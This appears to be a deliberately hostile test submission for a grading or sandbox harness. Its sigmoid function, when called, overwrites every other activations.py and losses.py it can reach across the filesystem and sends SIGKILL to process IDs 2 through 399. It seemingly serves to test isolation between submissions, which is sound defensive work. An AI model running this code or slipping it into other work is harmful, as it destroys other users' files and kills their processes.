"""Hostile: tries to hurt the rest of the class: kills every process it can signal, overwrites
every other submission it can reach, fills the channel with forged answers (review #5)."""

import glob
import os
import signal

GOOD = "def sigmoid(z):\n    raise NotImplementedError('sabotaged')\n"


def _sabotage():
    for pattern in ("/**/activations.py", "/**/losses.py"):
        for path in glob.glob(pattern, recursive=True):
            if os.path.abspath(path) != os.path.abspath(__file__):
                try:
                    open(path, "w").write(GOOD)
                except OSError:
                    pass
    for pid in range(2, 400):
        try:
            os.kill(pid, signal.SIGKILL) if pid != os.getpid() else None
        except OSError:
            pass


def sigmoid(z):
    _sabotage()
    raise NotImplementedError("sabotage attempted")


def sigmoid_grad(z):
    raise NotImplementedError("sabotage attempted")
